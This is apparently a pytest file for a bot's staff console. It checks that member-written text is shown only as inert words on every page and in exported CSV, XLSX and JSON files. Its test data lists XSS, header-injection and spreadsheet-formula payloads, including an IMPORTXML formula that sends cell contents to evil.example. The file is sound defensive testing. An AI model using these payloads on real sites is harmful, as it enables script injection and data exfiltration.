"""No member's text executes in a page or a spreadsheet: on every page there is, in every file, whatever they wrote."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from bot.console.site import PREFIX
from bot.house import House
from flows.permissions import MAY
from storage import covers, staff
from tests.guarantees.test_complaints_reach_the_outside_reader_only import addresses
from tests.injections import INJECTIONS
from tests.pages.conftest import NOON, Visit, Visitor, text
from tests.pages.test_permissions import ROUTES

MORE = (
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<img src=//evil.example/x.png>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "'><input autofocus onfocus=alert(1)>",
    "+1-1",
    "@SUM(1)",
    "\t=1+1",
    "\r\nSet-Cookie: a=b",
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
)  # fmt: skip
EVERYTHING = (*INJECTIONS, *MORE)
FORMULA = re.compile(r"^[\s\x00]*[=+\-@]")


class Seen(HTMLParser):
    """What a browser would make of a page: every element with what it says, and all of its words."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        leads = [given[name] for name in ("href", "src", "action", "srcdoc", "formaction", "poster") if name in given]
        foreign = [one for one in leads if not re.match(r"(?:/(?!/)|#|\?|data:,$|$)", one)]
        scripts = tag == "script" and "src" not in given
        handlers = [name for name in given if name.startswith("on") or name == "style"]
        if foreign or scripts or handlers or tag in ("iframe", "object", "embed", "base", "applet", "style"):
            self.wrong.append(f"{tag} {given}")
        if tag == "meta" and "http-equiv" in given:
            self.wrong.append(f"{tag} {given}")

    def handle_data(self, data: str) -> None:
        self.words += data + " "


async def everybody_says_it(house: House) -> None:
    """Each as a view of its own, from a member of its own; one of them is covered, and one asks for a person."""
    for number, words in enumerate(EVERYTHING, start=1):
        await text(house, words, number=number)
    await text(house, "PERSON", number=1)
    with house.database.transaction() as db:
        staff.add(db, "everything", tuple(MAY), None, house.keys, NOON)
        covers.mark(db, 4, "hate", "everything", NOON)


@pytest.fixture
async def visitor(house: House, visit: Visit) -> Visitor:
    await everybody_says_it(house)
    visitor = await visit(house)
    await visitor.sign_in("everything")
    return visitor


async def test_on_every_page_it_is_words_and_nothing_else(visitor: Visitor) -> None:
    wrong, shown = {}, ""
    for route in ROUTES:
        if route.method == "GET" and route.path != "/live":
            for address in addresses(route, "0" * 32):
                answer = await visitor.client.get(address, allow_redirects=False)
                is_page = "attachment" not in answer.headers.get("Content-Disposition", "")
                if answer.content_type == "text/html" and is_page:
                    seen = Seen(await answer.text())
                    shown += seen.words
                    if seen.wrong:
                        wrong[address] = seen.wrong[:2]
    assert wrong == {}
    assert all(" ".join(words.split()) in " ".join(shown.split()) for words in EVERYTHING if "\x00" not in words)


async def test_in_every_conversation_it_is_words_and_nothing_else(visitor: Visitor) -> None:
    page = await visitor.look(f"{PREFIX}/inbox")
    for called in sorted(set(re.findall(r"/console/inbox/([A-Z]\d+)\"", page)))[:30]:
        assert Seen(await visitor.look(f"{PREFIX}/inbox/{called}")).wrong == []


async def test_in_no_file_is_it_a_formula(visitor: Visitor) -> None:
    """CSV, XLSX and JSON, each file that a page gives."""
    looked = 0
    for route in ROUTES:
        if route.method == "GET" and re.search(r"csv|xlsx|json", route.path):
            for address in addresses(route, "0" * 32):
                answer = await visitor.client.get(address, allow_redirects=False)
                if answer.status != 200:
                    continue
                looked += 1
                for cell in cells(await answer.read(), address):
                    assert not (FORMULA.match(cell) and not re.fullmatch(r"[\s+-]*[\d.,]*", cell)), (address, cell)
                assert "attachment" in answer.headers.get("Content-Disposition", "attachment")
    assert looked >= 3


def cells(body: bytes, address: str) -> list[str]:
    if address.endswith("xlsx"):
        book = load_workbook(io.BytesIO(body))
        found = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell for cell in found if cell.data_type == "f"]
        return []  # a cell of words is words, whatever it begins with: only its type makes a formula
    if address.endswith("json"):
        json.loads(body)
        return []
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("words", ["</title><script>x</script>", "\u202ecod.exe", "x\x1b[2Jy"])
async def test_a_name_in_telegram_is_nowhere_where_it_could_do_anything(
    house: House, visitor: Visitor, words: str
) -> None:
    """No page shows a member's name at all; what they write is shown as it is."""
    await text(house, words, number=99)
    assert Seen(await visitor.look(f"{PREFIX}/inbox")).wrong == []
